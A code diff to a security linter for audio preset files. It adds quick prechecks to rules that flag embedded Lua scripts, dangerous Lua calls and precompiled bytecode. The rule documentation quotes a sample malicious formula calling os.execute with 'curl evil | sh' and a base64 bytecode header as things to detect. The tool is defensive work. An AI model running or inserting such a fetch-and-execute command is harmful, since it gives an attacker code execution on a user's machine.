@@ -77,6 +77,15 @@ def _xml_scripts(root: Element) -> Iterator[Script]:
             yield Script(Location(pointer=f"//{tag}/@{attr}"), language, source)
 
 
+def _has_scripts(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    return bool(scripts_of(doc))
+
+
+def _may_bytecode(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    return (bool(scripts_of(doc)) or doc.data.startswith(_BYTECODE)
+            or any(d.data.startswith(_BYTECODE) for d in scan.decoded()))
+
+
 def check_present(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
     for s in scripts_of(doc):
         if s.source.strip():
@@ -118,7 +127,7 @@ RULES = (
         "should know it is there and read it.",
         '`<formula i="0" formula="ZnVuY3Rpb24gcHJvY2VzcyhzdGF0ZSkgLi4u"/>`',
         "Nothing to fix if the script is expected; ignore X020 to hide these."), check_present,
-        severity=Severity.INFO),
+        severity=Severity.INFO, quick=_has_scripts),
     security_rule("X021", "lua-dangerous-call", CRITICAL, "Lua script uses os, io, require, load, debug or another escape hatch",
                   RuleDoc("Reports a Lua script that names `os`, `io`, `require`, `load`/`loadstring`/`loadfile`, "
                           "`dofile`, `debug`, `package`, `ffi`, `jit`, `module`, `string.dump`, or reaches the global "
@@ -127,7 +136,7 @@ RULES = (
                           "can read or delete the user's files or run programs. A modulator formula needs none.",
                           '`function process(state) os.execute("curl evil | sh") end`',
                           "Delete the preset; a formula modulator only needs arithmetic and `math`."),
-                  check_dangerous),
+                  check_dangerous, quick=_has_scripts),
     security_rule("X022", "lua-bytecode", CRITICAL, "Precompiled Lua or LuaJIT bytecode",
                   RuleDoc("Reports precompiled Lua (`ESC Lua`) or LuaJIT (`ESC LJ`) chunks, as a script, as the file "
                           "itself, or inside any decoded payload.",
@@ -135,5 +144,5 @@ RULES = (
                           "Lua 5.1 do not verify it): loading it is running arbitrary native code.",
                           '`formula="G0x1YVEAAQQIBAgA..."` (base64 of `\\x1bLuaQ`)',
                           "Delete the preset; ask for the script's source."),
-                  check_bytecode),
+                  check_bytecode, quick=_may_bytecode),
 )
